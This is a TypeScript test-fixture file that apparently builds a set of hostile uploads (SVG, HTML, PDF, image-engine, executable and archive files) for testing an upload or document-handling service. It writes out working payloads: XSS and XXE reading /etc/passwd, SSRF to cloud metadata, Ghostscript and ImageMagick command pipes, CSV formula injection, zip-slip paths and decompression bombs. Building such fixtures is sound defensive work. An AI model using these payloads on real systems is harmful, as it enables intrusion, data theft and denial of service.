import { deflateRawSync, gzipSync } from 'node:zlib';
import { filesOf, HTML, mark, type MARKS, PHP, SCRIPT, type HostileFile } from './hostile-file.ts';

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (inside: string, more = '') => `<svg ${SVG} ${more}>${inside}</svg>`;

const drawings = filesOf('a drawing that runs or fetches', {
	'onload.svg': svg('', 'onload="alert(1)"'),
	'script.svg': svg(SCRIPT),
	'script-href.svg': svg('<script xlink:href="https://evil.example/x.js"/>'),
	'foreign.svg': svg(
		`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</body></foreignObject>`,
	),
	'link.svg': svg('<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
	'animate.svg': svg('<a><animate attributeName="href" values="javascript:alert(1)"/></a>'),
	'set.svg': svg('<set attributeName="onmouseover" to="alert(1)"/>'),
	'use.svg': svg('<use href="data:image/svg+xml,%3Csvg id=%27x%27 onload=%27alert(1)%27/%3E#x"/>'),
	'iframe.svg': svg('<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>'),
	'handler.svg': svg(
		'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
	),
	'image.svg': svg(
		'<image xlink:href="http://169.254.169.254/latest/meta-data/" width="9" height="9"/>',
	),
	'file.svg': svg('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
	'feimage.svg': svg('<filter><feImage xlink:href="http://127.0.0.1:5432/"/></filter>'),
	'style.svg': svg('<style>@import url(https://evil.example/x.css)</style>'),
	'font.svg': svg(
		'<style>@font-face{font-family:x;src:url(http://10.0.0.1/)}</style><text>x</text>',
	),
	'entity.svg': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('&x;')}`,
	'entity-far.svg': `<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">${svg('')}`,
	'include.svg': svg(
		'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
	),
	'sheet.svg': `<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>${svg('')}`,
	'wide-letters.svg': Buffer.from(`\ufeff${svg(SCRIPT)}`, 'utf16le'),
	'comment-first.svg': `<!-- ${'x'.repeat(5000)} -->${svg(SCRIPT)}`,
	'packed.svgz': gzipSync(svg(SCRIPT)),
	'msl.svg': `<?xml version="1.0"?><image><read filename="/etc/passwd"/><write filename="/tmp/x"/></image>`,
});

const pages = filesOf('a page or a program for browsers', {
	...Object.fromEntries(
		[
			'html',
			'htm',
			'xhtml',
			'shtml',
			'xht',
			'mhtml',
			'hta',
			'txt',
			'png',
			'jpg',
			'json',
			'md',
			'',
		].map((ending) => [`page${ending && '.'}${ending}`, HTML]),
	),
	'marked.html': `\ufeff${HTML}`,
	'utf7.txt': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
	'strict.xhtml': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`,
	'feed.rss': `<?xml version="1.0"?><rss><channel><title>${SCRIPT}</title></channel></rss>`,
	'sheet.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?><x>${SCRIPT}</x>`,
	'sheet.xsl': `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`,
	'archive.mht': `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n\r\n${HTML}`,
	'worker.js': 'self.addEventListener("fetch", (e) => e.respondWith(new Response("x")))',
	'module.mjs': 'export default alert(1)',
	'sheet.css': 'body{background:url(https://evil.example)}',
	'policy.xml': '<cross-domain-policy><allow-access-from domain="*"/></cross-domain-policy>',
	'offline.appcache': 'CACHE MANIFEST\nFALLBACK:\n/ /files/x',
	'app.webmanifest': '{"start_url":"https://evil.example"}',
	'callback.json': 'alert(1)//{"a":1}',
	'program.wasm': mark('wasm'),
	'film.swf': mark('swf'),
	'applet.class': mark('class'),
	'table.csv': "=cmd|'/c calc'!A1,@SUM(1+1),+1,-1",
});

const papers = filesOf('a paper that acts', {
	'script.pdf':
		'%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
	'launch.pdf': '%PDF-1.7\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj',
	'link.pdf': '%PDF-1.7\n1 0 obj<</A<</S/URI/URI(javascript:alert(1))>>>>endobj',
	'form.pdf': '%PDF-1.7\n1 0 obj<</OpenAction<</S/SubmitForm/F(https://evil.example)>>>>endobj',
	'packed.pdf': '%PDF-1.7\n1 0 obj<</OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x)>>>>endobj',
	'macro.docm': Buffer.concat([mark('zip'), Buffer.alloc(26), Buffer.from('word/vbaProject.bin')]),
	'outside.xlsx': Buffer.concat([mark('zip'), Buffer.alloc(26), Buffer.from('xl/externalLinks/')]),
	'old.doc': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
	'letter.rtf': '{\\rtf1{\\object\\objautlink http://evil.example}}',
	'help.chm': 'ITSF\u0003\0\0\0',
});

const engines = filesOf('a word for a picture or film engine', {
	'context.mvg':
		'push graphic-context\nviewbox 0 0 9 9\nfill \'url(https://evil.example/"|id; ")\'\npop graphic-context',
	'context.png':
		"push graphic-context\nimage over 0,0 0,0 'ephemeral:/etc/passwd'\npop graphic-context",
	'label.gif': "push graphic-context\nimage over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context",
	'script.msl': '<?xml version="1.0"?><image><read filename="https://evil.example/x.png"/></image>',
	'pipe.eps':
		'%!PS-Adobe-3.0 EPSF-3.0\nuserdict /setpagedevice undef\nlegal\n{ null restore } stopped { pop } if\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops',
	'pipe.ps': '%!PS\n(%pipe%id) (w) file',
	'pipe.jpg': '%!PS\n(%pipe%id) (w) file',
	'bitmap.xbm': '#define x_width 9999999\n#define x_height 9999999\nstatic char x_bits[] = {0};',
	'bitmap.xpm': '/* XPM */ static char *x[] = {"99999 99999 1 1"};',
	'paint.pcx': Buffer.from('0a0501080000000fffffff', 'hex'),
	'metadata.djvu': 'AT&TFORM\0\0\0\u0020DJVUANTz(metadata "\\c${system(\'id\')}")',
	'list.m3u8': '#EXTM3U\n#EXT-X-TARGETDURATION:1\nfile:///etc/passwd',
	'list.mp4': '#EXTM3U\n#EXTINF:1,\nconcat:http://169.254.169.254/|file:///etc/passwd',
	'list.avi': Buffer.concat([
		Buffer.from('RIFF\0\0\0\0AVI '),
		Buffer.from('#EXTM3U\nfile:///etc/passwd'),
	]),
	'join.ffconcat': 'ffconcat version 1.0\nfile /etc/passwd',
	'session.sdp': 'v=0\no=- 0 0 IN IP4 127.0.0.1\nm=video 1 RTP/AVP 96',
	'dash.mpd': '<MPD><BaseURL>file:///etc/passwd</BaseURL></MPD>',
	'subtitle.ass': '[Script Info]\n[Fonts]\nfontname: ../../x',
});

const programs = filesOf('a program or a key to one', {
	...Object.fromEntries(
		(['elf', 'exe', 'cab', 'rar', '7z'] as (keyof typeof MARKS)[]).map((type) => [
			`program.${type}`,
			Buffer.concat([mark(type), Buffer.alloc(300)]),
		]),
	),
	...Object.fromEntries(
		['php', 'phtml', 'php5', 'phar', 'jsp', 'asp', 'aspx', 'cgi', 'pl', 'php.png', 'png.php'].map(
			(ending) => [`shell.${ending}`, PHP],
		),
	),
	'run.jar': Buffer.concat([mark('zip'), Buffer.alloc(26), Buffer.from('META-INF/MANIFEST.MF')]),
	'run.apk': Buffer.concat([mark('zip'), Buffer.alloc(26), Buffer.from('AndroidManifest.xml')]),
	'run.iso': Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001')]),
	'run.reg': 'Windows Registry Editor Version 5.00',
	'run.scf': '[Shell]\nIconFile=\\\\evil.example\\x',
	'run.py': 'import os; os.system("id")',
	'run.sh': '#!/bin/sh\nid',
	'run.bat': '@echo off\r\ncalc',
	'run.ps1': 'Start-Process calc',
	'run.vbs': 'CreateObject("WScript.Shell").Run "calc"',
	'way.lnk': Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
	'way.url': '[InternetShortcut]\r\nURL=file://evil.example/x',
	'way.desktop': '[Desktop Entry]\nType=Application\nExec=id',
	'way.webloc': '<plist><dict><key>URL</key><string>javascript:alert(1)</string></dict></plist>',
	'.htaccess': 'AddType application/x-httpd-php .png',
	'web.config': '<configuration><system.webServer/></configuration>',
	'eicar.com': `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR'}-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`,
});

/** A zip entry that says it grows to 4 GB, under any name. */
function entry(name: string): Buffer {
	const data = deflateRawSync(Buffer.alloc(100_000));
	const head = Buffer.alloc(30);
	head.write('PK\u0003\u0004', 'latin1');
	head.writeUInt16LE(8, 8);
	head.writeUInt32LE(data.length, 18);
	head.writeUInt32LE(0xffffffff, 22);
	head.writeUInt16LE(name.length, 26);
	return Buffer.concat([head, Buffer.from(name, 'latin1'), data]);
}

function archives(): HostileFile[] {
	const many = (count: number, inside: Buffer) => Buffer.concat(Array<Buffer>(count).fill(inside));
	const tar = Buffer.alloc(1024);
	tar.write('../../etc/cron.d/x', 0, 'latin1');
	tar.write('2/etc/passwd', 156, 'latin1');
	tar.write('ustar', 257, 'latin1');
	return filesOf('an archive that climbs or grows', {
		'climbing.zip': entry('../../../../etc/passwd'),
		'climbing-back.zip': entry('..\\..\\windows\\x.exe'),
		'absolute.zip': entry('/etc/passwd'),
		'linked.tar': tar,
		'nested.zip': many(16, entry('lib.zip')),
		'ten-thousand.zip': many(10_000, entry('a')),
		'overlapping.zip': Buffer.concat([
			entry('a'),
			Buffer.from('PK\u0005\u0006'),
			Buffer.alloc(18, 0xff),
		]),
		'gigabyte.gz': many(64, gzipSync(Buffer.alloc(16 * 1024 * 1024))),
		'gigabyte.tgz': many(64, gzipSync(Buffer.alloc(16 * 1024 * 1024))),
		'laughs.xml': `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(1000)}">]><x>&b;</x>`,
	});
}

/** Everything that is kept as it came, if at all: nothing of it may ever be shown in place. */
export const hostileDocuments = (): HostileFile[] => [
	...[drawings, pages, papers, engines, programs, archives()].flat(),
];
